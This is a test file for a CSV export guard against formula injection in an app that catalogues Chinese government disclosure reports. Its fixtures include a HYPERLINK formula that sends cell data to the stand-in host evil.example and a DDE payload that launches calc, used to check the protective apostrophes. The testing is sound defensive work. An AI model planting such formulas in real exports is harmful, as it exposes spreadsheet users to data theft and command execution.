/**
 * CSV formula injection (OWASP "CSV injection"): a text cell that starts with = + - @, a tab or a CR is
 * written with a leading ' unless the export asks for the exact text; numbers are never touched. Checked on
 * a real library (makeLibrary, corrections through setFieldValues), through runExport, the API validator,
 * the bag and the CLI run as a child process. XLSX and JSON Lines carry the text as data, unguarded.
 */
import { spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import ExcelJS from 'exceljs'
import Papa from 'papaparse'
import { afterAll, afterEach, describe, expect, it } from 'vitest'
import { runExport, verifyBag } from '../../src/main/export'
import { parseExportArgs } from '../../src/main/cli/commands/export'
import { setFieldValues } from '../../src/main/library/field-store'
import { VALIDATORS } from '../../src/main/services/validators'
import type { Db } from '../../src/main/library/db'
import type { ExportRequest } from '../../src/shared/contract'
import { fieldDef } from '../../src/shared/fields'
import { makeLibrary, removeTempDirs, sampleDocs, type SampleDoc } from './make-library'

afterAll(removeTempDirs)

let open: Db[] = []
afterEach(() => {
  for (const db of open) db.close()
  open = []
})

const ROOT = resolve(__dirname, '..', '..')
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r']

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
const CORRECTED_TITLE = "=cmd|' /C calc'!A0"

/** Reports and reviewers' tags whose text a spreadsheet would run, next to values it must leave alone. */
function hostileDocs(): SampleDoc[] {
  return [
    {
      fileName: '@SUM(A1).txt',
      text: '某县人民政府2022年政府信息公开工作年度报告',
      fields: {
        title: '+1 某县人民政府2022年报告',
        agency: HYPERLINK,
        region: '-x',
        region_code: '\t=1+1',
        publish_date: '2023-01-18',
        report_year: 2022,
        't2v19.licensing.change': -3,
        't2v19.fees.change': -0.5,
        applications_received: 12,
      },
      tags: ['@SUM(1,2)', '正常'],
      status: 'verified',
    },
    {
      fileName: '普通报告.txt',
      text: '某市交通运输局2021年报告',
      // a CR first, text that only holds a trigger further in, and a text field holding what looks like a number
      fields: { title: '某市交通运输局2021年报告', region: 'a=b, c+d', agency: '\r某市交通运输局', region_code: '-3', 't2v19.licensing.change': 4 },
      tags: ['2021'],
    },
  ]
}

function library(docs: SampleDoc[] = hostileDocs()): ReturnType<typeof makeLibrary> {
  const lib = makeLibrary(docs)
  open.push(lib.db)
  return lib
}

/** The stored value a person would see, by document and field (corrections included). */
function storedText(db: Db, id: number, field: string): unknown {
  const v = db.prepare('SELECT value FROM fields WHERE document_id = ? AND field_id = ?').pluck().get(id, field) as string | undefined
  return v === undefined ? undefined : JSON.parse(v)
}

function parseCsv(text: string): string[][] {
  expect(text.charCodeAt(0)).toBe(0xfeff)
  const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true, newline: '\r\n' })
  expect(parsed.errors).toEqual([])
  return parsed.data
}

/** Rows keyed by header name. */
function table(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text)
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])))
}

const startsWithTrigger = (s: string): boolean => TRIGGERS.includes(s.charAt(0))

async function exportCsv(db: Db, out: string, extra: Partial<ExportRequest> = {}): Promise<string> {
  await runExport(db, { format: 'csv', scope: 'all', out, provenanceColumns: true, labels: true, ...extra })
  return readFileSync(out, 'utf8')
}

describe('CSV formula guard', () => {
  it('puts a leading apostrophe before text a spreadsheet would run, and leaves numbers alone', async () => {
    const { db, dir, ids } = library()
    setFieldValues(db, [ids[1]], 'title', CORRECTED_TITLE, { reason: '审核人员更正' })
    const rows = table(await exportCsv(db, join(dir, 'guarded.csv')))
    const [first, second] = rows.slice(1) // row 1 holds the Chinese labels

    expect(first.agency).toBe(`'${HYPERLINK}`)
    expect(first.title).toBe("'+1 某县人民政府2022年报告")
    expect(first.region).toBe("'-x")
    expect(first.region_code).toBe("'\t=1+1")
    expect(first.tags).toBe("'@SUM(1,2);正常")
    expect(first.source_file).toBe("'@SUM(A1).txt")
    expect(second.title).toBe(`'${CORRECTED_TITLE}`) // a reviewer's correction is guarded like extracted text
    expect(second.region_code).toBe("'-3") // text, even when it reads like a number
    expect(second.agency).toBe("'\r某市交通运输局")

    // numbers and dates are written bare
    expect(first['t2v19.licensing.change']).toBe('-3')
    expect(first['t2v19.fees.change']).toBe('-0.5')
    expect(second['t2v19.licensing.change']).toBe('4')
    expect(first.report_year).toBe('2022')
    expect(first.publish_date).toBe('2023-01-18')
    // text with a trigger only further in, and the fixed columns, are untouched
    expect(second.region).toBe('a=b, c+d')
    expect(first.status).toBe('verified')
    expect(first.agency__origin).toBe('auto')
    expect(second.title__origin).toBe('corrected')

    // no cell of the file, headers and labels included, is left for a spreadsheet to run
    const cells = parseCsv(readFileSync(join(dir, 'guarded.csv'), 'utf8')).flat()
    expect(cells.filter(startsWithTrigger).filter((c) => !/^-?\d+(\.\d+)?$/.test(c))).toEqual([])
  })

  it('writes the exact text with formulaGuard: false, and differs from the guarded file only by the apostrophes', async () => {
    const { db, dir, ids } = library()
    setFieldValues(db, [ids[1]], 'title', CORRECTED_TITLE, { reason: '审核人员更正' })
    const guarded = parseCsv(await exportCsv(db, join(dir, 'guarded.csv')))
    const rawText = await exportCsv(db, join(dir, 'raw.csv'), { formulaGuard: false })
    const raw = parseCsv(rawText)

    // the exact stored text comes back
    const rows = table(rawText).slice(1)
    expect(rows[0].agency).toBe(HYPERLINK)
    expect(rows[0].agency).toBe(storedText(db, ids[0], 'agency'))
    expect(rows[0].region).toBe('-x')
    expect(rows[0].region_code).toBe('\t=1+1')
    expect(rows[0].tags).toBe('@SUM(1,2);正常')
    expect(rows[0].source_file).toBe('@SUM(A1).txt')
    expect(rows[1].title).toBe(storedText(db, ids[1], 'title'))
    expect(rows[1].title).toBe(CORRECTED_TITLE)
    expect(rows[1].agency).toBe('\r某市交通运输局')
    expect(rows[0]['t2v19.licensing.change']).toBe('-3')
    expect(rawText).toContain(',"=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")",')

    // cell for cell: the guarded file is the raw one with ' before exactly the cells that start with a trigger
    expect(guarded.length).toBe(raw.length)
    let apostrophes = 0
    raw.forEach((row, r) => {
      expect(guarded[r].length).toBe(row.length)
      row.forEach((cell, c) => {
        const type = fieldDef(raw[0][c])?.type
        const numeric = r > 1 && (type === 'integer' || type === 'number') // a number column below the two header rows
        const expected = startsWithTrigger(cell) && !numeric ? `'${cell}` : cell
        if (expected !== cell) apostrophes++
        expect(guarded[r][c], `row ${r} column ${raw[0][c]}`).toBe(expected)
      })
    })
    expect(apostrophes).toBe(9)
  })

  it('changes nothing in a library without such text', async () => {
    const { db, dir } = library(sampleDocs())
    const guarded = await exportCsv(db, join(dir, 'a.csv'))
    const raw = await exportCsv(db, join(dir, 'b.csv'), { formulaGuard: false })
    expect(guarded).toBe(raw)
    expect(guarded).not.toContain(",'")
  })

  it('is accepted by the API validator as an optional boolean', () => {
    const base = { format: 'csv', scope: 'all' }
    expect(VALIDATORS['export.start'](base)).not.toHaveProperty('formulaGuard')
    expect(VALIDATORS['export.start']({ ...base, formulaGuard: false })).toMatchObject({ formulaGuard: false })
    expect(VALIDATORS['export.count']({ ...base, formulaGuard: true })).toMatchObject({ formulaGuard: true })
    expect(() => VALIDATORS['export.start']({ ...base, formulaGuard: 'no' })).toThrow(/formulaGuard/)
  })
})

describe('formats that are data, not a spreadsheet', () => {
  it('XLSX writes =1+1 as text, never as a formula', async () => {
    const docs = hostileDocs()
    docs[0].fields.agency = '=1+1'
    const { db, dir } = library(docs)
    const out = join(dir, 'all.xlsx')
    await runExport(db, { format: 'xlsx', scope: 'all', out })
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.readFile(out)
    const sheet = wb.getWorksheet('文档 documents')!
    const header = (sheet.getRow(1).values as unknown[]).slice(1)
    const agency = sheet.getRow(3).getCell(header.indexOf('agency') + 1)
    expect(agency.type).toBe(ExcelJS.ValueType.String)
    expect(agency.value).toBe('=1+1')
    expect(agency.formula).toBeUndefined()
    const tags = sheet.getRow(3).getCell(header.indexOf('tags') + 1)
    expect(tags.type).toBe(ExcelJS.ValueType.String)
    expect(tags.value).toBe('@SUM(1,2);正常')
    expect(sheet.getRow(3).getCell(header.indexOf('region') + 1).value).toBe('-x')

    // the negative number of the long-form table stays a number
    const t2v19 = wb.getWorksheet('表二(2019) t2v19')!
    const change = []
    for (let r = 3; r <= t2v19.rowCount; r++) {
      const v = (t2v19.getRow(r).values as unknown[]).slice(1)
      if (v[1] === 'licensing' && v[2] === 'change') change.push(v[3])
    }
    expect(change).toEqual([-3, 4])
  })

  it('JSON Lines carries the text as it is', async () => {
    const { db, dir } = library()
    const out = join(dir, 'all.jsonl')
    await runExport(db, { format: 'jsonl', scope: 'all', out })
    const first = JSON.parse(readFileSync(out, 'utf8').split('\n')[0]) as Record<string, unknown>
    expect(first.agency).toBe(HYPERLINK)
    expect(first.tags).toEqual(['@SUM(1,2)', '正常'])
    expect(first['t2v19.licensing.change']).toBe(-3)
  })
})

describe('BagIt', () => {
  it('guards its CSV files the same way, says so in dictionary.csv, and stays a valid bag', async () => {
    const { db, dir } = library()
    for (const formulaGuard of [true, false]) {
      const bag = join(dir, `bag-${formulaGuard}`)
      await runExport(db, { format: 'bagit', scope: 'all', out: bag, formulaGuard })
      expect((await verifyBag(bag)).ok).toBe(true)
      // the bag's documents.csv is the CSV export of the same request
      const csv = join(dir, `plain-${formulaGuard}.csv`)
      await runExport(db, { format: 'csv', scope: 'all', out: csv, formulaGuard })
      expect(readFileSync(join(bag, 'data', 'documents.csv'), 'utf8')).toBe(readFileSync(csv, 'utf8'))

      const files = table(readFileSync(join(bag, 'data', 'files.csv'), 'utf8'))
      expect(files[0].source_file).toBe(formulaGuard ? "'@SUM(A1).txt" : '@SUM(A1).txt')
      expect(files[0].original).toBe('originals/@SUM(A1).txt')

      const dictionary = table(readFileSync(join(bag, 'data', 'dictionary.csv'), 'utf8'))
      const note = dictionary[dictionary.length - 1]
      expect(note).toMatchObject({ id: '(text cells)', type: 'note', group: 'csv' })
      if (formulaGuard) {
        expect(note.en).toContain("carries a leading '")
        expect(note.en).toContain('--no-formula-guard')
      } else {
        expect(note.en).toContain('written exactly as stored')
      }
    }
  })
})

describe('annalist export --no-formula-guard', () => {
  function annalist(...args: string[]): { code: number | null; stdout: string; stderr: string } {
    const r = spawnSync(process.execPath, ['--import', 'tsx', join(ROOT, 'src/main/cli/index.ts'), ...args], { cwd: ROOT, encoding: 'utf8', timeout: 60_000 })
    return { code: r.status, stdout: r.stdout, stderr: r.stderr }
  }

  it('keeps the request shape without the flag and turns the guard off with it', () => {
    const base = ['--library', 'lib.annalist', '--format', 'csv', '--out', 'x.csv']
    expect(parseExportArgs(base).req).not.toHaveProperty('formulaGuard')
    expect(parseExportArgs([...base, '--no-formula-guard']).req.formulaGuard).toBe(false)
  })

  it('guards by default and writes the exact text with the flag, end to end', () => {
    const lib = makeLibrary(hostileDocs())
    lib.db.close()
    const guarded = join(lib.dir, 'guarded.csv')
    let r = annalist('export', '--library', lib.path, '--format', 'csv', '--out', guarded, '--fields', 'agency,region,t2v19.licensing.change')
    expect(r.stderr).toBe('')
    expect(r.code).toBe(0)
    let rows = table(readFileSync(guarded, 'utf8'))
    expect(rows[0]).toMatchObject({ agency: `'${HYPERLINK}`, region: "'-x", tags: "'@SUM(1,2);正常", 't2v19.licensing.change': '-3' })

    const raw = join(lib.dir, 'raw.csv')
    r = annalist('export', '--library', lib.path, '--format', 'csv', '--out', raw, '--fields', 'agency,region,t2v19.licensing.change', '--no-formula-guard')
    expect(r.stderr).toBe('')
    expect(r.code).toBe(0)
    expect(r.stdout).toMatch(/^exported 2 documents as csv to .*raw\.csv \(.+\)\n$/)
    rows = table(readFileSync(raw, 'utf8'))
    expect(rows[0]).toMatchObject({ agency: HYPERLINK, region: '-x', tags: '@SUM(1,2);正常', source_file: '@SUM(A1).txt', 't2v19.licensing.change': '-3' })

    r = annalist('--help')
    expect(r.stdout).toContain('[--no-formula-guard]')
  })
})
